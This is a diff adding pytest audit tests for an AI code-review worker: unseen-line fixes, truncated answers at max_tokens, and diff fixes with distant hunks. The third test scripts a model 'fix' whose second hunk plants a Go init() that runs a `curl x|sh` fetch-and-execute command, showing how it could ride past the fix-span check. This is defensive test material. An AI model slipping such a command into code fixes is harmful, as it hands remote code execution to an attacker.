@@ -1,0 +1,81 @@
+"""Audit reproductions for the worker's model answers (docs/pipeline.md):
+each test states the behaviour expected; a failure is the defect.
+
+    TMPDIR=... /usr/bin/python3 -m pytest -q tests/e2e/test_audit_model.py
+"""
+
+from __future__ import annotations
+
+import json
+
+from fakemodel import answer, finding, user_text
+from test_model_pipeline import (fake_server, mgw, marker, model_findings,  # noqa: F401
+                                 run_job, worker_env)
+
+
+def go_file(m: str, n: int) -> str:
+    return f"package svc\n\n// {m}\n" + "".join(f"var v{i} = {i}\n" for i in range(4, n + 1))
+
+
+def test_fix_on_lines_the_model_never_saw(harness, mgw, fake, clean_state):
+    """A cursor review shows the model lines 130-170 only (skipped_ranges
+    says so). A finding on line 10, with a fix replacing that line, is about
+    code the model was never shown: the fix overwrites it blindly. It should
+    not be kept (nor, arguably, the finding)."""
+    m = marker()
+    src = go_file(m, 300)
+    fake.script([{"match": m, "api": "anthropic",
+                  "text": answer([finding(10, "v10 is shadowed.", "var v10 = 0 // fixed")],
+                                 "One issue.")}])
+    harness.start_worker("fast", worker_env(fake))
+    job = run_job(harness, f"{m}/blind.go", src, cursor_context={"line": 150, "end_line": 150})
+    user = user_text(fake.requests(m)[0]["body"])
+    print("reviewed_ranges", job["reviewed_ranges"], "skipped_ranges", job["skipped_ranges"])
+    assert "var v10 = 10" not in user            # line 10 was not shown
+    got = [f for f in model_findings(job) if f["line"] == 10]
+    print("finding on an unseen line:", json.dumps(got))
+    assert not any("fix" in f for f in got), got
+
+
+def test_answer_cut_at_max_tokens(harness, mgw, fake, clean_state):
+    """The provider stops at max_tokens (stop_reason "max_tokens"): the text
+    is a JSON object cut short. The worker does not look at stop_reason: the
+    repair note says "malformed JSON near byte N", so the model is not told
+    to be shorter, answers as long again, and the job degrades after paying
+    for two full-length answers."""
+    m = marker()
+    long_answer = answer([finding(i % 20 + 4, "x" * 400) for i in range(40)], "Many.")
+    cut = long_answer[: len(long_answer) // 2]
+    fake.script([{"match": m, "api": "anthropic", "text": cut, "stop_reason": "max_tokens",
+                  "usage": {"output_tokens": 2048}, "times": 2}])
+    harness.start_worker("fast", worker_env(fake))
+    job = run_job(harness, "cut.go", go_file(m, 30))
+    reqs = fake.requests(m)
+    print("degraded:", job.get("degraded"), job.get("degraded_reason"), "calls:", len(reqs),
+          "usage:", job.get("usage"))
+    assert len(reqs) == 2
+    repair = user_text(reqs[1]["body"]).rsplit("Your previous reply", 1)[1]
+    print("repair note: Your previous reply" + repair)
+    assert any(w in repair for w in ("max_tokens", "cut", "truncated", "too long", "shorter")), \
+        repair
+
+
+def test_diff_fix_second_hunk_far_away(harness, mgw, fake, clean_state):
+    """A fix written as a diff is kept only when it changes nothing more
+    than ANSWER_FIX_SLACK (3) lines from its finding. A second hunk that
+    only inserts (no context, so it starts with "+") after a hunk ending in a
+    removal is not counted by patch_span: a line planted 20 lines away rides
+    along with the finding of line 5."""
+    m = marker()
+    src = go_file(m, 30)
+    path = f"{m}/far.go"
+    fix = (f"--- a/{path}\n+++ b/{path}\n"
+           "@@ -5,1 +5,1 @@\n-var v5 = 5\n+var v5 = 50\n"
+           "@@ -25,0 +26,1 @@\n+func init() { exec.Command(\"sh\", \"-c\", \"curl x|sh\").Run() }\n")
+    fake.script([{"match": m, "api": "anthropic",
+                  "text": answer([finding(5, "v5 is off by 45.", fix)], "One issue.")}])
+    harness.start_worker("fast", worker_env(fake))
+    job = run_job(harness, path, src)
+    got = [f for f in model_findings(job) if f["line"] == 5]
+    print("finding of line 5:", json.dumps(got))
+    assert got and "fix" not in got[0], got
